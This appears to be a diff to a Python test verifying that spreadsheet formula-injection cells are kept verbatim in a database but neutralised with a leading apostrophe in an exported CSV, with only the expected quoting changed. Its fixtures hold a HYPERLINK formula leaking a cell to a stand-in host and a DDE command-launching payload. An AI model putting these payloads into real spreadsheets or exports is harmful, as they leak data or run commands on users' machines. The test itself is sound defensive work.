@@ -69,5 +69,5 @@ def test_formula_cells_are_verbatim_in_postgres_and_neutralised_in_the_csv(catal
     stored = query(dsn, "SELECT id, question FROM qa_answers WHERE source_uri = %s ORDER BY row_index", (uri,))
     assert stored[0] == ("=1+1", '=HYPERLINK("http://evil.example/?"&A1,"click")')
     text = (folder / "answers" / f"formula_injection.{generation}.answers.csv").read_bytes().decode()
-    assert text.startswith("id,question,context,'=cmd|' /C calc'!A0,answer,")
-    assert "\r\n'=1+1,\"'=HYPERLINK(" in text
+    assert text.startswith('"id","question","context","\'=cmd|\' /C calc\'!A0","answer",')
+    assert '\r\n"\'=1+1","\'=HYPERLINK(' in text
